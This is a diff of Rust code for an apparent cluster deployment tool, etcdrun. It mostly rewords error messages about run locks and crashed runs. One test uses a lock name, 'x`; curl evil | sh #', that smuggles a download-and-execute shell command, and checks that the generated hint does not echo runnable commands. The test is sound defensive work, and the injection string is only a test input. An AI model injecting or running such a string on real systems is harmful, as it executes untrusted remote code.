@@ -204,7 +204,7 @@ fn no_lock(context: &Context, host: HostId, error: RemoteError) -> Trouble {
     }
     let host = context.graph.host(host);
     let hint = error.hint().map(str::to_owned);
-    let msg = format!("{host} cannot keep the lock of this run, so nothing is changed there: {error}");
+    let msg = format!("{host} cannot store the lock of this run, so nothing is changed there: {error}");
     Trouble::Failed(Box::new(Outcome::failed(msg)), hint)
 }
 
@@ -296,15 +296,15 @@ fn enough(context: &Context, wanted: &Wanted, answers: &Answers) -> Result<(), S
         let hypervisors = members.iter().filter_map(|host| context.inventory.hypervisor_of(*host));
         let hypervisors: BTreeSet<_> = hypervisors.map(|host| host.id).collect();
         let keepers = hypervisors.iter().filter(|host| grants(host)).count();
-        let what = format!("{granted} of {} members of cluster {cluster} could be asked for its lock", members.len());
+        let what = format!("{granted} of {} members of `{cluster}` could be reached for its lock", members.len());
         if keepers == 0 {
             return Err(format!("only {what}, and none of their hypervisors"));
         }
         let mut msg = match granted {
             0 => format!(
-                "no member of cluster {cluster} answers, as when it has none yet; their hypervisors keep its lock"
+                "no member of `{cluster}` answers (normal before the first deployment); the lock is held on their hypervisors"
             ),
-            _ => format!("only {what}; their hypervisors keep it"),
+            _ => format!("only {what}; it is held on their hypervisors"),
         };
         // A run is not refused for it: what is left after a disaster may be one machine.
         if keepers * 2 <= hypervisors.len() {
@@ -341,16 +341,16 @@ fn describe(holder: &LockHolder, hosts: &BTreeSet<String>) -> String {
     let run = RunId::parse(&holder.run);
     let way_out = match (&run, alive) {
         (None, _) => format!(
-            "that is not the name of a run: look at its lock on the host, and remove it there if no run of etcdrun made it ({})",
+            "that is not the ID of a run: inspect its lock on the host, and remove it there if no run of etcdrun created it ({})",
             one_line(&holder.name)
         ),
-        (Some(_), Some(true)) => "it is still running: wait for it, or give --lock-timeout".to_owned(),
+        (Some(_), Some(true)) => "it is still active: wait for it, or pass --lock-timeout".to_owned(),
         (Some(run), Some(false)) => format!(
-            "that process is gone, so the run has crashed: `etcdrun resume {run}` goes on with it, `etcdrun unlock {run}` breaks its lock"
+            "that process is gone, so the run has crashed: to continue it, run `etcdrun resume {run}`; to break its lock, run `etcdrun unlock {run}`"
         ),
         (Some(run), None) => {
             format!(
-                "ask there whether it still runs; if not, `etcdrun resume {run}` there, or `etcdrun unlock {run} --force`"
+                "check there whether it is still active; if not, run `etcdrun resume {run}` there, or `etcdrun unlock {run} --force`"
             )
         }
     };
@@ -388,7 +388,7 @@ mod tests {
             describe(&holder, &hosts)
         };
         let hostile = told("x`; curl evil | sh #");
-        assert!(hostile.contains("is not the name of a run") && !hostile.contains("`etcdrun"), "{hostile}");
+        assert!(hostile.contains("is not the ID of a run") && !hostile.contains("`etcdrun"), "{hostile}");
         assert!(!hostile.contains(char::is_control), "{hostile:?}");
         let usual = told("20261115T044500000Z-00ff");
         assert!(usual.contains("unlock 20261115T044500000Z-00ff"), "{usual}");
